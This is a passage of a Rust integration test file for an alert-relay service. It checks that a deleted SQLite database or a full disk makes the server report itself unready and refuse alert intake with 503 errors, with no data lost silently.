            let r = app.post_raw(path, Some(&s.tokens[source]), body);
            assert_eq!((r.status, r.fields()), (400, vec!["alerts".to_string()]), "{path} {body}: {}", r.text);
        }
    }
    let page = app.get("/api/alerts", &s.w.admin).expect(200);
    assert_eq!(page["items"].as_array().map(Vec::len), Some(0), "nothing stored");
}

// --- 17. storage failure is visible -------------------------------------------------------------

#[test]
fn a_deleted_database_refuses_writes_and_is_not_silently_recreated() {
    if crate::support::sqlite_only("the SQLite file deleted under the server") {
        return;
    }
    let app = TestApp::start();
    let (s, _) = setup(&app, &[]);
    fire(&app, &s, "before", "critical");
    assert_eq!(app.request("GET", "/readyz", None, None, &[]).status, 200);
    let db = app.config.database.path.clone();
    for suffix in ["", "-wal", "-shm"] {
        let mut p = db.as_os_str().to_owned();
        p.push(suffix);
        let _ = std::fs::remove_file(std::path::PathBuf::from(p));
    }
    let body = json!({"alerts": [{"status": "firing", "labels": {"alertname": "After"}, "fingerprint": "after"}]});
    let r = app.post_raw("/api/integrations/alertmanager", Some(&s.token()), &body.to_string());
    assert_eq!(r.status, 503, "no 2xx for what cannot be stored: {}", r.text);
    let ready = app.request("GET", "/readyz", None, None, &[]);
    assert_eq!(ready.status, 503);
    assert!(ready.body["reason"].as_str().unwrap().contains("deleted or replaced"), "{}", ready.text);

    // Starting on the vanished database refuses, naming the way out; --init starts afresh.
    let cli = |args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_incidentrelay"))
            .args(args)
            .env_clear()
            .env("INCIDENTRELAY_DATABASE__PATH", &db)
            .output()
            .unwrap()
    };
    let out = cli(&["migrate"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success() && err.contains("is missing") && err.contains("--init"), "{err}");
    assert!(!db.exists(), "no new empty database behind the operator's back");
    let out = cli(&["migrate", "--init"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("Created a new database"));
}

#[test]
fn a_full_disk_makes_the_server_unready_and_intake_refuse_rather_than_lose() {
    if crate::support::sqlite_only("the SQLite file on a full disk") {
        return;
    }
    let mount = tempfile::tempdir().unwrap();
    let mounted = std::process::Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=6m", "tmpfs", mount.path().to_str().unwrap()])
        .stderr(std::process::Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if !mounted {
        crate::tools::missing("a small tmpfs to fill (mount as root)");
        return;
    }
    struct Unmount(std::path::PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = std::process::Command::new("umount").arg("-l").arg(&self.0).status();
        }
    }
    let _unmount = Unmount(mount.path().to_path_buf());
    let dir = tempfile::tempdir_in(mount.path()).unwrap();
    let mut config = crate::support::test_config(dir.path());
    config.database.path = dir.path().join("full.db");
    let app = TestApp::start_in(dir, config, incidentrelay::clock::ManualClock::new(app_t0()));
    let (s, _) = setup(&app, &[]);
    assert_eq!(app.request("GET", "/readyz", None, None, &[]).status, 200);
    let filler = mount.path().join("filler");
    {
        use std::io::Write;
        let mut f = std::fs::File::create(&filler).unwrap();
        let chunk = vec![0u8; 64 * 1024];
        while f.write_all(&chunk).is_ok() {}
        let _ = f.sync_all();
    }
    let ready = app.request("GET", "/readyz", None, None, &[]);
    assert_eq!(ready.status, 503, "{}", ready.text);
    assert!(ready.body["reason"].as_str().unwrap_or("").contains("disk is full"), "{}", ready.text);
    // Intake answers 2xx only for what it stored; the first refusal is a 503, never a 500.
    let mut stored = Vec::new();
    let mut refused = None;
    for n in 0..400 {
        let body = json!({"alerts": [{"status": "firing", "labels": {"alertname": format!("A{n}")},
                                      "annotations": {"description": "x".repeat(4000)}, "fingerprint": format!("f{n}")}]});
        let r = app.post_raw("/api/integrations/alertmanager", Some(&s.token()), &body.to_string());
        match r.status {
            200 => stored.push(r.body[0]["id"].as_i64().unwrap()),
            other => {
                refused = Some((other, r.text));
                break;
            }
        }
    }
    let (code, text) = refused.expect("a full disk refuses intake before long");
    assert_eq!(code, 503, "{text}");
    std::fs::remove_file(&filler).unwrap();
    assert_eq!(app.request("GET", "/readyz", None, None, &[]).status, 200, "ready again once there is room");
    for id in stored {
        app.get(&format!("/api/alerts/{id}"), &s.w.admin).expect(200);
    }
}

fn app_t0() -> incidentrelay::domain::time::Ts {
    incidentrelay::domain::time::Ts::parse(crate::support::T0).unwrap()
}
